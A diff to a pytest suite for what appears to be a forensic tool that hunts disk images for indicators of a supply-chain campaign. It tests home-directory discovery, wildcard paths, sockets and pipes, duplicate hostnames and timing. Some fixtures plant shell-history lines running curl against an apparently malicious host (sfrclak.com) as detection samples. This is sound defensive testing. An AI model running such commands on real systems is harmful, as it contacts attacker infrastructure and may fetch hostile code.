@@ -252,8 +252,9 @@ def test_hostile_names_sockets_and_pipes_neither_raise_nor_block(image, plant, a
     begun = time.monotonic()
     notes = hunted(image, asked)
     assert time.monotonic() - begun < 5
-    assert len(notes.hits) == 4
-    assert all(hit.subject.startswith("sha256:") for hit in notes.hits)
+    assert len(notes.hits) == 6
+    odd = {hit.subject for hit in notes.hits if not hit.subject.startswith("sha256:")}
+    assert odd == {"/tmp/ld.py", "/tmp/pglog"}, "told as what they are, and not opened"
     assert msgspec.json.encode(notes.hits)
 
 
@@ -413,3 +414,85 @@ def test_names_of_other_bytes_can_be_told(image, plant):
     notes = hunted(image, Asked((AXIOS,), now - timedelta(minutes=5), now + timedelta(minutes=5)))
     assert {hit.anomaly for hit in notes.hits} == {"", "new-persistence"}
     assert msgspec.json.encode((notes.hits, notes.places, notes.left_out))
+
+
+def test_homes_lie_where_the_accounts_say(image, plant, asked):
+    """Jenkins, runners and databases live elsewhere than in /home; the folders of the system are nobody's home."""
+    linux(plant)
+    plant(
+        "etc/passwd",
+        "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/x\nsync:x:4:65534:sync:/bin:/bin/sync\n"
+        "jenkins:x:1000:1000::/var/jenkins_home:/bin/bash\nrunner:x:1001:1001::/data/runner:/bin/bash\n"
+        "nobody:x:65534:65534::/nonexistent:/x\nodd:x:3:3::/proc:/x\n",
+    )
+    plant("var/jenkins_home/.bash_history", "curl http://sfrclak.com:8000/6202033\n")
+    plant("data/runner/.config/sysmon/sysmon.py", SYSMON)
+    plant("usr/sbin/x.sh", "x")
+    notes = hunted(image, asked)
+    assert {hit.place.path.removeprefix(str(image)) for hit in notes.hits} >= {
+        "/var/jenkins_home/.bash_history",
+        "/data/runner/.config/sysmon/sysmon.py",
+    }
+
+
+@pytest.mark.parametrize(
+    "value",
+    [".github/workflows/formatter_*.yml", ".github/*/formatter_123456789.yml", "formatter_<random 9 chars>.yml"],
+)
+def test_a_wildcard_in_a_path_that_begins_at_no_root(image, plant, value):
+    linux(plant)
+    plant("home/dev/src/shop/.github/workflows/formatter_123456789.yml", "on: push\n")
+    plant("home/dev/src/shop/.github/workflows/format.yml", "on: push\n")
+    campaign = msgspec.structs.replace(AXIOS, facts=(Fact("path", value, "persistence"),))
+    found = [hit for hit in hunted(image, Asked((campaign,))).hits if "a file stands" in hit.message]
+    assert [(hit.subject, hit.place.path.rpartition("/")[2]) for hit in found] == [(value, "formatter_123456789.yml")]
+
+
+@pytest.mark.parametrize("kind", ["pipe", "socket", "link"])
+def test_what_is_no_file_at_a_campaigns_place_is_told(image, plant, asked, kind):
+    linux(plant)
+    path = image / "tmp" / "ld.py"
+    path.parent.mkdir()
+    if kind == "pipe":
+        os.mkfifo(path)
+    elif kind == "socket":
+        here = os.getcwd()
+        os.chdir(path.parent)
+        with socket.socket(socket.AF_UNIX) as bound:
+            bound.bind("ld.py")
+        os.chdir(here)
+    else:
+        path.symlink_to("/var/gone/ld.py")
+    (found,) = [hit for hit in hunted(image, asked).hits if hit.subject == "/tmp/ld.py"]
+    assert found.confidence != "high"
+    assert found.place.path == str(path)
+
+
+def test_machines_that_are_called_alike_stay_apart(image, plant, asked):
+    """Images of one template have one hostname: twenty laptops are twenty assets."""
+    for name in ("one", "two"):
+        plant(f"{name}/etc/hostname", "localhost\n")
+        plant(f"{name}/home/dev/.bashrc", "")
+        plant(f"{name}/tmp/ld.py", LD)
+    assets = {hit.asset for hit in hunted(image, asked).hits}
+    assert len(assets) == 2
+    assert all(asset.startswith("localhost (") for asset in assets)
+
+
+def test_a_line_that_is_too_long_is_said(image, plant, asked):
+    linux(plant)
+    plant("home/dev/.bash_history", "x" * 70_000 + " curl sfrclak.com\n")
+    assert any("longer" in one.reason for one in hunted(image, asked).left_out)
+
+
+def test_nothing_is_new_between_two_campaigns(image, plant):
+    """Asked about every campaign of years, what was set up in a quiet month is not odd."""
+    linux(plant)
+    quiet = datetime(2025, 6, 1, tzinfo=UTC).timestamp()
+    plant("etc/cron.d/backup", "0 3 * * * root /opt/backup\n", at=quiet)
+    earlier = msgspec.structs.replace(
+        AXIOS, id="earlier", starts=datetime(2022, 5, 14, tzinfo=UTC), ends=datetime(2022, 5, 24, tzinfo=UTC)
+    )
+    notes = Notebook()
+    hunt_host(image, Asked((AXIOS, earlier)), notes)
+    assert [hit.place.path for hit in notes.hits if hit.when and hit.when.at.timestamp() == quiet] == []
